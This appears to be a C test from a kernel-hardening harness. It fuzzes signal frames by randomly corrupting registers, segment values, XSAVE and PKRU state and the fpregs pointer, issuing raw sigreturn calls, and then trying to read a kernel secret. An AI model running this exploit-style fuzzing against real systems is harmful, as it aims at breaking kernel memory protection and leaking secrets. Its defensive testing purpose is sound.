/* none: succeeds: secret or panic; keys: fails "nothing stolen"; full: fails "nothing stolen" */
#include "chance.h"

/*
 * Every signal has a handler that changes its frame by chance: registers, segments, flags, the floating point state and its header (PKRU
 * among it), the pointer to that, the stack that is to come; and returns. Some find themselves in such a handler again and again.
 */
#define ATTEMPTS 300
#define SIGNALS_EACH 60
#define STATE 2688 /* without PKRU */

static char handlers_stack[1 << 16] __attribute__((aligned(PAGE)));
static uintptr_t places[6];

static uint64_t any_value(void)
{
	static const uint64_t values[] = { 0, 1, 63, 0x20, 0x2b, 0x23, 0x33, 0x1000, 0x100000000000, 0x7ffffffff000, 0x7fffffffffff, 0x800000000000,
					   0xffff800000000000, 0xffffffffff600000, 0x8000000000000000, ~0ul };

	switch (chance(3)) {
	case 0:
		return values[chance(sizeof values / sizeof *values)];
	case 1:
		return places[chance(sizeof places / sizeof *places)];
	default:
		return (uint64_t)chance(~0u) << 32 | chance(~0u);
	}
}

static void open_keys(uint8_t *state)
{
	memset(state + STATE, 0, 8);
	state[513] |= 2;
}

static void change_state(ucontext_t *context, uint8_t *state)
{
	static const int distances[] = { 1, 8, 16, 64, 512, (int)PAGE, -64 };

	switch (chance(7)) {
	case 0:
		context->uc_mcontext.fpregs = (void *)any_value();
		break;
	case 1:
		context->uc_mcontext.fpregs = (void *)(state + distances[chance(7)]);
		break;
	case 2:
		memcpy(state + 24, &(uint32_t){ (uint32_t)any_value() }, 4); /* MXCSR */
		break;
	case 3:
		memcpy(state + 464 + 4 * chance(12), &(uint32_t){ (uint32_t)any_value() }, 4); /* what the host tells of its size */
		break;
	case 4:
		state[512 + chance(64)] = (uint8_t)chance(256); /* the header */
		break;
	case 5:
		for (int i = 0; i < 20; i++)
			state[chance(STATE)] = (uint8_t)chance(256);
		break;
	default:
		open_keys(state);
	}
}

static void change_context(ucontext_t *context)
{
	switch (chance(6)) {
	case 0:
		context->uc_mcontext.gregs[REG_EFL] ^= 1l << chance(32);
		break;
	case 1:
		context->uc_mcontext.gregs[REG_CSGSFS] = (greg_t)any_value();
		break;
	case 2:
		context->uc_mcontext.gregs[chance(23)] = (greg_t)any_value();
		break;
	case 3:
		context->uc_flags = any_value();
		break;
	case 4:
		context->uc_stack = (stack_t){ (void *)any_value(), (int)any_value(), any_value() };
		break;
	default:
		((uint8_t *)context)[chance(sizeof *context)] = (uint8_t)chance(256);
	}
}

/* A copy of the state that ends where a mapping does. */
static void move_state(ucontext_t *context, const uint8_t *state)
{
	uint8_t *pages = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	size_t size = 64 * (1 + chance(STATE / 64));

	if (pages == MAP_FAILED)
		return;
	munmap(pages + PAGE, PAGE);
	context->uc_mcontext.fpregs = memcpy(pages + PAGE - size, state, size);
}

static void change_frame(int signal, siginfo_t *info, void *frame)
{
	ucontext_t *context = frame;
	uint8_t *state = (uint8_t *)context->uc_mcontext.fpregs;
	static int count;

	(void)signal, (void)info;
	if (++count > SIGNALS_EACH)
		_exit(0);
	for (uint32_t changes = 1 + chance(3); changes; changes--)
		if (chance(2) && state)
			change_state(context, state);
		else
			change_context(context);
	if (state && chance(8) == 0)
		move_state(context, state);
}

static void set_handlers(void)
{
	struct sigaction action = { .sa_sigaction = change_frame, .sa_flags = SA_SIGINFO | SA_ONSTACK | (chance(2) ? SA_NODEFER : 0) };
	stack_t stack = { .ss_sp = handlers_stack, .ss_size = sizeof handlers_stack };

	if (chance(3) == 0)
		stack = (stack_t){ (void *)any_value(), chance(2) ? 0 : (int)any_value(), any_value() };
	if (chance(2))
		sigaltstack(&stack, NULL);
	for (int i = 1; i < 32; i++)
		if (i != SIGALRM)
			sigaction(i, &action, NULL);
}

static void attempt(int number)
{
	(void)number;
	places[0] = at("kernel_stack"), places[1] = at("user_page"), places[2] = at("landing_pad");
	places[3] = at("victim"), places[4] = at("way_out"), places[5] = at("kernel_secret");
	alarm(1);
	set_handlers();
	if (chance(4) == 0)
		__asm__ volatile("mov %0, %%rsp\n\tmov %1, %%eax\n\tsyscall" : : "r"(any_value()), "i"(SYS_rt_sigreturn) : "memory");
	if (chance(4) == 0)
		__asm__ volatile("pushf\n\torq $0x100, (%%rsp)\n\tpopf\n\tnop\n\tnop" : : : "memory");
	raise(SIGUSR1);
	steal(at("kernel_secret"));
	_exit(STOLEN);
}

int main(void)
{
	attempts(attempt, ATTEMPTS);
	return 0;
}
